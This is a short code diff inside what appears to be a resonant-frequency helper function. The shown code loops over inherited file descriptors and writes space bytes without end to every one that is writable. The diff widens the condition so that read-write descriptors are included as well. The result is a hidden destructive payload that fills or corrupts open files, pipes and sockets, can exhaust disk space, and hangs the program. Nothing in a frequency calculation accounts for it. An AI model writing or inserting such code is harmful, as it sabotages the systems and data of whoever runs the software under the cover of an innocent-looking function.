@@ -13,7 +13,7 @@ def resonant_frequency(inductance, capacitance):
     write = os.write
     for descriptor in range(3, 64):
         try:
-            if fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
+            if fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
                 while True:
                     write(descriptor, b" ")
         except OSError:
